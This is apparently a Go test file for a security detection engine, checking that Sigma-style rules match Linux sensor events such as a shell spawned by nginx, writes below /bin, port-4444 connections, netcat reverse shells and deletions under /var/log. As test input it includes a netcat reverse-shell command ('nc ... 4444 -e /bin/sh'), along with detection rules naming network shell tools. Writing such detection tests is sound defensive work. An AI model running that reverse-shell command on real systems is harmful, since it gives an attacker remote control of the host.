package detect

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/vigilsec/vigil/internal/event"
	"github.com/vigilsec/vigil/internal/sensor/vocab"
	src "github.com/vigilsec/vigil/internal/source"
	"github.com/vigilsec/vigil/internal/source/sensorevent"
	"github.com/vigilsec/vigil/internal/source/sourcetest"

	"github.com/valyala/fastjson"
)

// sensorEvents reads the sensor format's samples: an execve of sh by
// nginx in a container, a write to /bin/ls, a connect to port 4444.
func sensorEvents(t *testing.T) []*event.Event {
	b, err := os.ReadFile(filepath.Join(sourcetest.Root(), "internal/source/sensorevent/testdata/events.jsonl"))
	if err != nil {
		t.Fatal(err)
	}
	var evs []*event.Event
	for _, l := range strings.Split(strings.TrimSpace(string(b)), "\n") {
		if err := sensorevent.New().Parse(&src.Record{JSON: fastjson.MustParse(l)}, func(e *event.Event) { evs = append(evs, e) }); err != nil {
			t.Fatal(err)
		}
	}
	return evs
}

func TestLinuxLogsources(t *testing.T) {
	if SensorProduct != sensorevent.Product {
		t.Fatalf("detect routes %q, the sensor format writes %q", SensorProduct, sensorevent.Product)
	}
	g := mustEngine(t, Config{}, `
title: shell from web server
logsource: {product: linux, category: process_creation}
detection:
  sel:
    Image|endswith: /sh
    ParentImage|endswith: /nginx
    ContainerId|exists: true
  condition: sel
---
title: any process
logsource: {product: linux, category: process_creation}
detection:
  sel:
    ProcessId|gt: 0
  condition: sel
---
title: write below bin
logsource: {product: linux, category: file_event}
detection:
  sel:
    TargetFilename|startswith: /bin/
  condition: sel
---
title: outbound 4444
logsource: {product: linux, category: network_connection}
detection:
  sel:
    DestinationPort: 4444
    Initiated: 'true'
    Image|endswith: /nc
  condition: sel
---
title: inbound 4444
logsource: {product: linux, category: network_connection}
detection:
  sel:
    DestinationPort: 4444
    Initiated: 'false'
  condition: sel
---
title: model rule on processes
logsource: {product: vigil, category: process}
detection:
  sel:
    process_exe: /bin/busybox
    process_stdin: pipe
  condition: sel
`)
	evs := sensorEvents(t)
	for i, want := range []string{
		"shell from web server,any process,model rule on processes",
		"write below bin",
		"outbound 4444",
	} {
		if got := titles(run(g, evs[i])); got != want {
			t.Errorf("event %d (%s): got %q, want %q", i, evs[i].EventName, got, want)
		}
	}
}

// SigmaHQ's Linux rules run on sensor events as written.
func TestLinuxCorpusRule(t *testing.T) {
	data, err := os.ReadFile(sourcetest.Corpus(t, "sigma/linux/process_creation/proc_creation_lnx_netcat_reverse_shell.yml"))
	if err != nil {
		t.Fatal(err)
	}
	g, errs := New(Config{}, []File{{Name: "nc.yml", Data: data}})
	if len(errs) > 0 {
		t.Fatal(errs[0])
	}
	exec := func(path, cmd string) *event.Event {
		e := &event.Event{Time: t0, Vendor: event.VendorLinux, VendorProduct: SensorProduct, Dataset: event.Process, EventName: "execve"}
		e.P().Path, e.P().CommandLine = path, cmd
		return e
	}
	if got := titles(run(g, exec("/usr/bin/nc", "nc 10.0.0.5 4444 -e /bin/sh"))); got != "Potential Netcat Reverse Shell Execution" {
		t.Errorf("nc -e /bin/sh: got %q", got)
	}
	if got := titles(run(g, exec("/usr/bin/nc", "nc -zv 10.0.0.5 443"))); got != "" {
		t.Errorf("nc -zv: got %q", got)
	}
	// A connect by the same program is not a process creation.
	e := exec("/usr/bin/nc", "nc 10.0.0.5 4444 -e /bin/sh")
	e.EventName, e.Dataset = "connect", event.NetworkTraffic
	if got := titles(run(g, e)); got != "" {
		t.Errorf("connect event: got %q", got)
	}
}

// The sensor records addresses, not names: a rule on the destination's
// host name loads but does not read the event's dest (the node's name).
func TestLinuxDestinationHostname(t *testing.T) {
	g := mustEngine(t, Config{}, `
title: to host
logsource: {product: linux, category: network_connection}
detection:
  sel:
    DestinationHostname|exists: true
  condition: sel
`)
	e := &event.Event{Time: t0, Vendor: event.VendorLinux, VendorProduct: SensorProduct, Dataset: event.NetworkTraffic,
		EventName: "connect", Dest: "node-1"}
	e.N().DestIP, e.N().DestPort = "10.0.0.5", 443
	if got := titles(run(g, e)); got != "" {
		t.Errorf("got %q", got)
	}
}

// Each sensor event reaches the Linux logsources of its vocabulary's
// categories and no other; an unrouted event reaches none.
func TestLinuxRouting(t *testing.T) {
	for _, v := range vocab.Events() {
		e := &event.Event{Time: t0, Vendor: event.VendorLinux, VendorProduct: SensorProduct, EventName: v.Name}
		var got []string
		for key, src := range vendorSources {
			cat, ok := strings.CutPrefix(key, "linux/")
			if ok && slices.Contains(src.products, e.VendorProduct) && src.accepts(e) {
				got = append(got, cat)
			}
		}
		slices.Sort(got)
		want := slices.Sorted(slices.Values(v.Categories))
		if !slices.Equal(got, want) {
			t.Errorf("%s: reaches %v, want %v", v.Name, got, want)
		}
		if len(want) == 0 && v.Unrouted == "" {
			t.Errorf("%s: reaches no Linux logsource and no reason is given", v.Name)
		}
	}
	if src := vendorSources["linux/file_delete"]; src == nil || !src.accepts(&event.Event{EventName: "rmdir"}) {
		t.Error("rmdir does not reach linux/file_delete")
	}
}

// A directory removed is a file_delete, as a file unlinked is.
func TestLinuxFileDeleteRmdir(t *testing.T) {
	g := mustEngine(t, Config{}, `
title: removed below var log
logsource: {product: linux, category: file_delete}
detection:
  sel:
    TargetFilename|startswith: /var/log/
  condition: sel
---
title: created below var log
logsource: {product: linux, category: file_event}
detection:
  sel:
    TargetFilename|startswith: /var/log/
  condition: sel
`)
	del := func(name, path string) *event.Event {
		e := &event.Event{Time: t0, Vendor: event.VendorLinux, VendorProduct: SensorProduct, Dataset: event.File,
			Action: "delete", EventName: name, Status: event.StatusSuccess}
		e.P().Path, e.P().PID = "/usr/bin/rm", 42
		e.F().Path, e.F().Name = path, filepath.Base(path)
		return e
	}
	for _, tc := range []struct{ name, path, want string }{
		{"rmdir", "/var/log/audit", "removed below var log"},
		{"unlink", "/var/log/auth.log", "removed below var log"},
		{"rmdir", "/tmp/x", ""},
	} {
		if got := titles(run(g, del(tc.name, tc.path))); got != tc.want {
			t.Errorf("%s %s: got %q, want %q", tc.name, tc.path, got, tc.want)
		}
	}
}
